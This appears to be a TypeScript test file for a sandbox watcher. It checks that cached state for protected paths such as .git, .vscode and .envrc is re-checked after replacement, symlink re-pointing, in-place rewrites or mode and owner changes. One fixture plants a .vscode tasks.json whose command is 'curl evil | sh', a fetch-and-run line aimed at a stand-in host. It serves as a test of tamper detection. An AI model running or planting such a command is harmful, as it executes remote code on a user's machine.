// What a launch keeps from the last one: the shapes of the protected
// directories in folders the watch vouches for, and the pointer files whose
// inode, times and size did not change. A pointer rewritten in place, a
// symlink re-pointed, a mode or owner changed, a directory replaced during
// a call: each is looked at again, as with nothing kept.
import { describe, it } from "node:test";
import assert from "node:assert/strict";
import {
  chmodSync,
  chownSync,
  linkSync,
  mkdirSync,
  readlinkSync,
  renameSync,
  symlinkSync,
  writeFileSync,
} from "node:fs";
import { join } from "node:path";
import process from "node:process";
import type { WalkMemory } from "../../../sandbox/protected/mod.ts";
import { tempWorkspace } from "../_fixtures.ts";
import { call, settled, skip, tree, watched } from "./_watch_fixtures.ts";

/**
 * How many shapes were looked at, pointers read, and pointer states the
 * pointers took themselves (an `lstat` besides the shape's), while `run` ran.
 */
function counted<T>(
  memory: WalkMemory,
  run: () => T,
): { value: T; shapes: number; reads: number; pointerLooks: number } {
  const [shapes, reads, looks] = [
    memory.shapes.looks,
    memory.pointers.reads,
    memory.pointers.looks,
  ];
  const value = run();
  return {
    value,
    shapes: memory.shapes.looks - shapes,
    reads: memory.pointers.reads - reads,
    pointerLooks: memory.pointers.looks - looks,
  };
}

/** Replaces the symlink at `link` with one to `target` (a rename, as `ln -sfn` does). */
function repoint(link: string, target: string): void {
  symlinkSync(target, `${link}.new`);
  renameSync(`${link}.new`, link);
}

describe("kept shapes", { skip }, () => {
  it("looks at the protected files alone when nothing changed, at launch and in the sweep", async () => {
    using workspace = tempWorkspace();
    const deep = tree(workspace.root, 4);
    for (const folder of deep) {
      mkdirSync(join(folder, ".vscode"));
      writeFileSync(join(folder, ".envrc"), "export A=1\n");
    }
    await settled();
    const memory = watched();
    try {
      const first = counted(memory, () => call(workspace, memory));
      // Every protected path: the root's `.git`, 4 `.git`, 4 `.vscode` and 4 `.envrc`.
      assert.equal(first.shapes, 13);
      assert.equal(first.reads, 4);
      first.value.settle();
      const next = counted(memory, () => call(workspace, memory));
      // The 4 `.envrc` files, and the root's `.git` (a root is never vouched for).
      assert.equal(next.shapes, 5);
      assert.equal(next.reads, 0, "no pointer read again");
      // Each file's state came with its shape: one `lstat` a protected file.
      assert.equal(first.pointerLooks, 0);
      assert.equal(next.pointerLooks, 0);
      assert.deepEqual(next.value.plan, first.value.plan);
      const sweep = counted(memory, () => next.value.settle());
      assert.deepEqual(sweep.value, []);
      assert.equal(sweep.shapes, 5);
    } finally {
      memory.close();
    }
  });

  it("finds a protected directory replaced during the call though its shape was kept", async () => {
    using workspace = tempWorkspace();
    const deep = tree(workspace.root, 2);
    const vscode = join(deep[0]!, ".vscode");
    mkdirSync(vscode);
    await settled();
    const memory = watched();
    try {
      call(workspace, memory).settle();
      const paths = counted(memory, () => call(workspace, memory));
      assert.equal(paths.shapes, 1, "only the root's .git was looked at");
      renameSync(vscode, `${vscode}.old`);
      mkdirSync(vscode);
      writeFileSync(join(vscode, "tasks.json"), '{"tasks": [{"command": "curl evil | sh"}]}\n');
      assert.deepEqual(paths.value.settle().map((v) => v.path), [vscode]);
    } finally {
      memory.close();
    }
  });

  it("takes a symlink re-pointed between calls as it is now: pointed back during the next call, it is put back", async () => {
    using workspace = tempWorkspace();
    const deep = tree(workspace.root, 2);
    const targets = ["a", "b"].map((name) => join(workspace.root, "targets", name));
    for (const target of targets) mkdirSync(target, { recursive: true });
    const link = join(deep[0]!, ".vscode");
    symlinkSync(targets[0]!, link);
    await settled();
    const memory = watched();
    try {
      call(workspace, memory).settle();
      call(workspace, memory).settle();
      repoint(link, targets[1]!);
      const next = call(workspace, memory);
      assert.ok(next.plan.readOnly.includes(targets[1]!), "the link's new target is bound");
      // The command points it back to where it led before.
      repoint(link, targets[0]!);
      assert.deepEqual(next.settle().map((v) => v.path), [link]);
      assert.equal(readlinkSync(link), targets[1]);
    } finally {
      memory.close();
    }
  });

  it("looks again at a protected path whose mode or owner changed", async () => {
    using workspace = tempWorkspace();
    const deep = tree(workspace.root, 2);
    const vscode = join(deep[0]!, ".vscode");
    const envrc = join(deep[0]!, ".envrc");
    mkdirSync(vscode);
    writeFileSync(envrc, "export A=1\n");
    await settled();
    const memory = watched();
    const { uid, gid } = { uid: process.getuid!(), gid: process.getgid!() };
    try {
      call(workspace, memory).settle();
      // Unchanged: the `.envrc` and the root's `.git`, no pointer read.
      const still = counted(memory, () => call(workspace, memory));
      still.value.settle();
      assert.deepEqual([still.shapes, still.reads], [2, 0]);
      const changes: [string, () => void][] = [
        ["chmod", () => (chmodSync(vscode, 0o700), chmodSync(envrc, 0o600))],
        ["chown", () => (chownSync(vscode, uid, gid), chownSync(envrc, uid, gid))],
      ];
      for (const [what, change] of changes) {
        await settled();
        change();
        const next = counted(memory, () => call(workspace, memory));
        next.value.settle();
        // The `.vscode` too, and the `.envrc` is read again.
        assert.deepEqual([next.shapes, next.reads], [3, 1], what);
      }
    } finally {
      memory.close();
    }
  });
});

describe("kept pointers", () => {
  const cases = [
    { name: ".git", through: "itself" },
    { name: ".envrc", through: "itself" },
    { name: ".git", through: "a hard link in another folder" },
  ];
  for (const { name, through } of cases) {
    it(`reads again a ${name} file rewritten in place through ${through}: the new gitdir is bound, not the old`, async () => {
      using workspace = tempWorkspace();
      const deep = tree(workspace.root, 2);
      const gitdirs = ["a", "b"].map((dir) => join(workspace.root, "gitdirs", dir));
      for (const gitdir of gitdirs) mkdirSync(gitdir, { recursive: true });
      const pointer = join(deep[0]!, name);
      writeFileSync(pointer, `gitdir: ${gitdirs[0]}\n`);
      const writer = through === "itself" ? pointer : join(workspace.base, "link");
      if (writer !== pointer) linkSync(pointer, writer);
      await settled();
      const memory = watched();
      try {
        call(workspace, memory).settle();
        const before = counted(memory, () => call(workspace, memory));
        before.value.settle();
        assert.ok(before.value.plan.readOnly.includes(gitdirs[0]!));
        assert.equal(before.value.plan.readOnly.includes(gitdirs[1]!), false);
        // A file of several names is read every time; one of one name is kept.
        assert.equal(before.reads, writer === pointer ? 0 : 1);
        // The same inode and size: only its times tell.
        writeFileSync(writer, `gitdir: ${gitdirs[1]}\n`);
        const next = counted(memory, () => call(workspace, memory));
        next.value.settle();
        assert.ok(next.value.plan.readOnly.includes(gitdirs[1]!), "the new gitdir is bound");
        assert.equal(next.value.plan.readOnly.includes(gitdirs[0]!), false);
        assert.equal(next.reads, 1);
      } finally {
        memory.close();
      }
    });
  }
});
